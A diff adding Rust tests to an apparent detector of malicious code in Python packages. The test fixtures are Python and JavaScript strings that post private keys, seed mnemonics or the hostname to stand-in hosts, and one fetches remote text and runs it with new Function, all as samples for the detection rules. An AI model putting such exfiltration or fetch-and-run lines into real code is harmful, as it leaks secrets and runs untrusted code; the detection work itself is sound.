@@ -289,6 +289,29 @@ fn an_address_handed_to_a_player_is_no_order() {
 }
 
 #[test]
+fn a_signature_does_not_tell_the_key() {
+    let signed = "import requests\ndef ask(private_key, text):\n    \
+        requests.post('https://files.invalid/in', data={'s': private_key.sign(text)})\n";
+    innocent(&module_of_many(signed));
+    found(&module_of_many(&signed.replace("sign(text)", "hex()")), "R-14");
+}
+
+#[test]
+fn what_a_service_is_told_by_its_own_client_is_meant_for_it() {
+    let told = "import requests\ndef ask(private_key):\n    \
+        requests.post('https://api.madeup.invalid/in', data={'k': private_key})\n";
+    innocent(&module_of_many(told));
+    found(&module_of_many(&told.replace("madeup", "others")), "R-14");
+    found(&module_of_many(&told.replace("private_key", "mnemonic")), "R-14");
+    let set = told.replace("'https://api.madeup.invalid/in'", "'https://%s/in' % settings.HOST");
+    innocent(&module_of_many(&("from made_up_frame import settings\n".to_owned() + &set)));
+    let host = "import requests, socket\n\
+        requests.post('https://api.madeup.invalid/in', json={'label': socket.gethostname()})\n";
+    lacks(&module_of_many(host), "I-54");
+    found(&module_of_many(&host.replace("madeup", "others")), "I-54");
+}
+
+#[test]
 fn a_pages_script_in_a_python_package_runs_where_it_is_started() {
     let page = "fetch('https://files.invalid/x').then(r => r.text()).then(t => new Function(t)());\n";
     let beside =
